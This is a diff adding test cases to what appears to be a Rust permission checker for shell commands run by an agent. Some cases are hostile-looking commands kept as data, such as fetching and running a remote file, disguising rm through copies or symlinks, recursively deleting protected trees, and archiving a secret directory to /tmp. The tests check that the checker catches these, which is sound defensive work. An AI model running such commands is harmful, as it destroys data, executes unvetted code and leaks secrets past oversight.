@@ -340,6 +340,17 @@ const PROGRAMS: &[(&str, Option<&[&str]>)] = &[
     ("sudo bash", None),
     // interpreters reading a program from their input are as opaque as `-c`: determined
     ("python3 - <<'EOF'\nprint(1)\nEOF", Some(&["python3"])),
+    // a program that is a found file, or that the line itself writes first
+    ("find . -exec {} \\;", None),
+    ("ls | xargs -I{} {}", None),
+    ("ls | xargs -i {} x", None),
+    ("ls | xargs -I% %", None),
+    ("cp /bin/rm x; ./x f", None),
+    ("echo 'rm y' > s; chmod +x s; ./s", None),
+    ("curl -so t https://h/t; ./t", None),
+    ("ln -s /bin/rm bin/ls && bin/ls f", None),
+    ("./configure && make", Some(&["configure", "make"])),
+    ("/usr/bin/rm x && /usr/bin/rm y", Some(&["rm", "rm"])),
     ("cat s | python3", Some(&["cat", "python3"])),
 ];
 
@@ -635,6 +646,19 @@ fn edit_rules_judge_what_the_shell_writes() {
         ("ls src", Verdict::Allow),
         ("rm lib/*.o", Verdict::Deny),
         ("git checkout -- lib/a.py", Verdict::Allow),
+        // a directory whose tree holds protected paths
+        ("rm -rf src", Verdict::Deny),
+        ("rm -r .", Verdict::Deny),
+        ("mv src old", Verdict::Deny),
+        ("git checkout -- .", Verdict::Deny),
+        ("git restore src", Verdict::Deny),
+        ("chmod -R 700 src", Verdict::Deny),
+        ("cp -r lib src", Verdict::Deny),
+        ("tar xf a.tar", Verdict::Deny),
+        ("rm -rf build lib", Verdict::Allow),
+        ("rm -rf src2", Verdict::Allow),
+        ("mkdir -p build/src", Verdict::Allow),
+        ("tar czf out.tgz lib", Verdict::Allow),
     ] {
         let got = p.decide(&bash(cmd)).verdict;
         if got != want {
@@ -666,6 +690,15 @@ fn read_rules_judge_what_the_shell_reads_and_writes() {
         ("awk '{print}' secret/k", Verdict::Deny),
         ("echo x > secret/k", Verdict::Deny),
         ("cat secret/*", Verdict::Deny),
+        ("grep -r x .", Verdict::Deny),
+        ("grep -R x secret", Verdict::Deny),
+        ("rg x .", Verdict::Deny),
+        ("cp -r secret /tmp/s", Verdict::Deny),
+        ("tar czf /tmp/a.tgz secret", Verdict::Deny),
+        ("tar -c -f /tmp/a.tar .", Verdict::Deny),
+        ("grep -r x lib", Verdict::Allow),
+        ("tar czf a.tgz lib", Verdict::Allow),
+        ("grep x lib/a.py", Verdict::Allow),
         ("cat README.md", Verdict::Allow),
         ("ls secret", Verdict::Allow),
         ("grep secret README.md", Verdict::Allow),
